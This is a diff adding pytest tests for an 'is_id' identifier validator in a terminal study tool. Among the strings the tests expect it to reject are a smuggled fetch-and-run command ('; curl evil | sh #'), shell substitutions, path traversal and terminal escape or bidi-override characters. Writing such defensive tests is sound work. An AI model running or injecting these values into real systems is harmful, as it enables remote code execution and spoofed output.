@@ -7,7 +7,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from studytui.text import MOST_MARKS, display, first_line, nearest, shorten
+from studytui.text import MOST_MARKS, display, first_line, is_id, nearest, shorten
 
 ANY = st.text(
     st.characters()
@@ -134,3 +134,54 @@ def test_what_is_shortened_fits(text: str, width: int) -> None:
 )
 def test_the_nearest_word(word: str, known: list[str], meant: str | None) -> None:
     assert nearest(word, known) == meant
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *("loops", "a.b_c-1", "2026-03-11", "-x", "größe", "ループ", "हिन्दी", "می\u200cخواهم"),
+        "x" * 200,
+    ],
+)
+def test_what_can_be_an_id(text: str) -> None:
+    assert is_id(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *(
+            "",
+            " ",
+            "a b",
+            "a\u00a0b",
+            "a\u3000b",
+            "x\n",
+            "\tx",
+            "; curl evil | sh #",
+            "$(x)",
+            "`x`",
+        ),
+        *("a'b", 'a"b', "~root", "*", "a?", "[x]", "{a,b}", "!!", "a>b", "a&b", "=1", "@x", "+1"),
+        *(
+            "../x",
+            "a\\b",
+            "C:x",
+            "\x1b[31m",
+            "\x9b",
+            "\x7f",
+            "\u202eb",
+            "\u2028",
+            "\ufeffa",
+            "\ud800",
+        ),
+        "x" * 201,
+    ],
+)
+def test_what_cannot_be_an_id(text: str) -> None:
+    assert not is_id(text)
+
+
+@given(ANY)
+def test_an_id_is_shown_as_it_is(text: str) -> None:
+    assert not is_id(text) or not any(map(drives_a_terminal, text))
